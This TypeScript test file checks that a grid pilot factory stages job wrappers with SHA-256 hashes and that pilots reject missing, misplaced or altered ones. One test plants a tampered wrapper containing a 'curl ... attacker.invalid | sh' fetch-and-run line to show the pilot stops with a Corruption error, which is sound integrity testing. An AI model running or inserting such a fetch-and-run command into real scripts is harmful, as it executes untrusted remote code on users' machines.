/**
 * An entry's job wrapper staged by the factory: the files are served from its staging area, their
 * manifest hashes go on the bootstrap's command line, and a real pilot started by the local adapter
 * downloads and checks them and runs a real schedd's job through them. A wrapper missing from the
 * staging area stops the factory's start; one altered after staging ends the pilot before any
 * claim, naming the file.
 */
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { pino } from "pino";
import { createLocalAdapter } from "../../src/factory/adapters/local/local-adapter.js";
import type { GridAdapter } from "../../src/factory/adapters/types.js";
import { type FactoryConfigInput, factoryConfigSchema } from "../../src/factory/config.js";
import { startStaging } from "../../src/factory/staging-service.js";
import { writeInstallArchive } from "../../src/factory/staging/install.js";
import { hasErrorCode } from "../../src/common/errors.js";
import { loadTlsMaterial } from "../../src/common/tls-rpc.js";
import { parsePilotOutput } from "../../src/pilot/report.js";
import { job, startEnv, submit, type TestEnv } from "../schedd/harness.js";

const repo = fileURLToPath(new URL("../../../", import.meta.url));
const BOOTSTRAP = join(repo, "src/pilot/updraft-pilot-startup.sh");
const silent = pino({ level: "silent" });
const root = mkdtempSync(join(tmpdir(), "updraft-wrapper-staging-"));
const stagingDir = join(root, "staging");
let env: TestEnv;
let adapter: GridAdapter;

before(async () => {
  env = await startEnv();
  mkdirSync(join(stagingDir, "hooks"), { recursive: true });
  writeInstallArchive(repo, stagingDir);
  // Served without their mode bits, as a web server would: the bootstrap makes them executable.
  writeFileSync(
    join(stagingDir, "hooks", "wrap.sh"),
    '#!/bin/sh\necho "wrapped $1" > wrapped.txt\nexec "$@"\n',
  );
  writeFileSync(join(stagingDir, "hooks", "pre.sh"), "#!/bin/sh\necho pre > pre.txt\n");
  adapter = createLocalAdapter(
    { slots: 2, kill_grace_s: 0 },
    { stateDir: join(root, "local"), logger: silent, now: Date.now },
  );
});
after(async () => {
  await adapter?.close();
  await env?.close();
  rmSync(root, { recursive: true, force: true });
});

function config(jobWrapper: Record<string, unknown>) {
  const input = {
    name: "fact1",
    collector: { url: "wss://localhost:1" },
    tls: {
      cert_file: env.pki.host.certFile,
      key_file: env.pki.host.keyFile,
      trust_dir: env.pki.caDir,
      rsa_private_key_file: join(root, "unused-rsa-key.pem"),
      rsa_public_key_file: join(root, "unused-rsa-pub.pem"),
    },
    work_dir: join(root, "work"),
    staging: { dir: stagingDir, listen: { host: "127.0.0.1", port: 0 } },
    security: { frontends: [] },
    entries: [
      {
        name: "local1",
        gridtype: "local",
        pilot: { command: BOOTSTRAP, failure_linger_s: 0, job_wrapper: jobWrapper },
      },
    ],
  } as FactoryConfigInput;
  return factoryConfigSchema.parse(input);
}

async function stagingArgs(jobWrapper: Record<string, unknown>): Promise<{
  args: string[];
  close: () => Promise<void>;
}> {
  const cfg = config(jobWrapper);
  const tls = loadTlsMaterial({ ...cfg.tls }, "tls");
  const staging = (await startStaging(cfg, tls, silent))!;
  return { args: staging.pilotArgs("local1"), close: () => staging.close() };
}

/** One pilot through the local adapter, as the factory submits it; its stdout once finished. */
async function runPilot(args: string[]): Promise<{ stdout: string; stderr: string }> {
  const credentialFile = join(root, `credential-${Date.now()}.pem`);
  writeFileSync(credentialFile, env.creds.pilot.certPem + env.creds.pilot.keyPem, { mode: 0o600 });
  const workBase = mkdtempSync(join(root, "node-"));
  const [sub] = await adapter.submit([
    {
      intentId: 1,
      command: BOOTSTRAP,
      args: [
        ...args,
        "--cacert",
        env.pki.caCertFile,
        "--trust-dir",
        env.pki.caDir,
        "--schedd",
        env.schedd.url(),
        "--work-base",
        workBase,
        "--max-idle",
        "2",
      ],
      env: { UPDRAFT_FAILURE_LINGER_S: "0", HOME: workBase },
      credentialFile,
      resources: { cpus: 1, memoryMb: 2048, walltimeS: 3600 },
    },
  ]);
  assert.ok(sub?.ok, JSON.stringify(sub));
  const handle = (sub as { handle: string }).handle;
  const deadline = Date.now() + 120_000;
  for (;;) {
    const st = (await adapter.status([handle])).get(handle);
    if (st?.state === "Finished") break;
    assert.ok(Date.now() < deadline, `pilot still ${st?.state} after 120 s`);
    await new Promise((r) => setTimeout(r, 200));
  }
  return adapter.fetchOutput(handle);
}

test("a job runs through the staged wrapper after the staged pre-job script", async (t) => {
  const staging = await stagingArgs({
    file: "hooks/wrap.sh",
    pre_job: "hooks/pre.sh",
    timeout_s: 30,
  });
  t.after(() => staging.close());
  const a = staging.args;
  // The hashes on the command line are the manifest's, checked again by the pilot.
  assert.match(a.join(" "), /--job-wrapper hooks\/wrap\.sh --job-wrapper-sha256 [0-9a-f]{64}/);
  assert.match(a.join(" "), /--pre-job hooks\/pre\.sh --pre-job-sha256 [0-9a-f]{64}/);
  assert.deepEqual(a.slice(-2), ["--hook-timeout", "30"]);

  const alice = env.client("alice");
  const cluster = await submit(alice, [
    job({
      TransferExecutable: "false",
      Cmd: '"/bin/sh"',
      Arguments: "\"-c 'cat pre.txt wrapped.txt > out.txt'\"",
      TransferOutput: '"out.txt"',
      RequestMemory: "64",
    }),
  ]);
  const out = await runPilot(a);
  const report = parsePilotOutput(out.stdout).report;
  assert.equal(report?.validation.ok, true, out.stderr + out.stdout);
  assert.ok(
    report?.validation.checks.some((c) => c.name === "job-hooks" && c.ok),
    "the pilot checked the staged hooks",
  );
  const [ad] = await alice.query({ ids: [`${cluster}.0`], history: true });
  assert.equal(ad?.JobStatus, "4", out.stderr + out.stdout);
  let text = "";
  for await (const c of alice.fetchOutput(`${cluster}.0`)) text += Buffer.from(c.data).toString();
  assert.equal(text, "pre\nwrapped /bin/sh\n");
});

test("a wrapper altered after staging ends the pilot as Corruption before any claim", async (t) => {
  const wrapper = join(stagingDir, "hooks", "tampered.sh");
  writeFileSync(wrapper, '#!/bin/sh\nexec "$@"\n');
  const staging = await stagingArgs({ file: "hooks/tampered.sh" });
  t.after(() => staging.close());
  // What the staging server serves for this version: the copy kept by its hash.
  const sha = staging.args[staging.args.indexOf("--job-wrapper-sha256") + 1]!;
  const served = join(root, "work", "staging-versions", "objects", sha);
  writeFileSync(served, '#!/bin/sh\ncurl -s http://attacker.invalid | sh\nexec "$@"\n');
  const alice = env.client("alice");
  const cluster = await submit(alice, [
    job({ TransferExecutable: "false", Cmd: '"/bin/true"', RequestMemory: "64" }),
  ]);
  const out = await runPilot(staging.args);
  const exit = parsePilotOutput(out.stdout).report?.exit;
  assert.equal(exit?.failureClass, "Corruption", out.stderr + out.stdout);
  assert.match(exit?.message ?? "", /file hooks\/tampered\.sh has SHA-256 [0-9a-f]{64}, expected/);
  const [ad] = await alice.query({ ids: [`${cluster}.0`] });
  assert.equal(ad?.JobStatus, "1", "the job was never claimed");
});

test("a job wrapper missing from the staging area stops the factory's start; none without staging", async () => {
  await assert.rejects(stagingArgs({ file: "hooks/absent.sh" }), (err: unknown) => {
    assert.ok(hasErrorCode(err, "job-wrapper-missing"), String(err));
    assert.match(
      (err as Error).message,
      /entry local1: pilot.job_wrapper names hooks\/absent\.sh, which is not in staging.dir/,
    );
    return true;
  });
  const noStaging = { ...config({ file: "hooks/wrap.sh" }) } as Record<string, unknown>;
  delete noStaging.staging;
  const r = factoryConfigSchema.safeParse(noStaging);
  assert.equal(r.success, false);
  assert.match(JSON.stringify(r.error?.issues), /a job wrapper is staged: configure `staging`/);
  const notBootstrap = factoryConfigSchema.safeParse({
    ...config({ file: "hooks/wrap.sh" }),
    entries: [
      {
        name: "e",
        gridtype: "local",
        pilot: { command: "/bin/pilot", job_wrapper: { file: "w" } },
      },
    ],
  });
  assert.match(JSON.stringify(notBootstrap.error?.issues), /needs the bootstrap/);
  const unsafe = factoryConfigSchema.safeParse({
    ...config({ file: "hooks/wrap.sh" }),
    entries: [
      {
        name: "e",
        gridtype: "local",
        pilot: { command: BOOTSTRAP, job_wrapper: { file: "../x" } },
      },
    ],
  });
  assert.match(JSON.stringify(unsafe.error?.issues), /a path relative to staging.dir/);
});
